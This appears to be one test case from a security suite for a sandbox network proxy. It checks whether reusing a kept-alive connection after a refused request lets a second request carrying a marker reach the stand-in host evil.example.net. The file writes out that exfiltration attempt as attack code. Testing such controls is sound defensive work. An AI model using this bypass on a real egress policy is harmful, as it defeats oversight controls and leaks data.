# /// attack
# guarantee = "network"
# summary = "Keeps a connection after a refusal, and sends the next request over it."
# reference = "RFC 9112, 9.3"
# success = "the server gets the request"
# stage = ["internet"]
# observe = ["stolen"]
# needs = ["small-internet"]
# policy = { network = { allow = ["example.org:80"] } }
# refusal = { default = "proxy evil.example.net:80 is not in network.allow" }
# ///

from kit import exchange, head, judge, target, url

first = head(f"GET {url('evil.example.net', '/')}", "Host: evil.example.net")
second = head(f"GET {url('evil.example.net', '/' + target('MARKER'))}", "Host: evil.example.net", "Connection: close")
judge(exchange("evil.example.net", first, second))
